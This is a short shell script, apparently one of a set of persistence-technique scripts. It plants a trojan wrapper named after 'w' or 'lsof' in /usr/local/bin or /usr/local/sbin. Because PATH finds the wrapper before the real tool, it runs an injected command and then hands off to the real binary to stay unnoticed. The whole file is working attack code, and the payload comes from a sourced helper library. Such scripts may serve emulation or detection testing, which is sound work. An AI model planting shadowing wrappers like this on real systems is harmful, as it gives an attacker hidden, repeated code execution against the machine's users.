#!/bin/sh
# program-shadowing: a program that PATH finds before the packaged one
# (environ(7))
. "${0%/*}/lib.sh"
payload
if [ "$who" = root ]; then d=/usr/local/bin; else d=/usr/local/sbin; fi
n=$(named w lsof)
put "$d/$n" 755 "#!/bin/sh" "$head" "$cmd" "exec /usr/bin/$n \"\$@\""
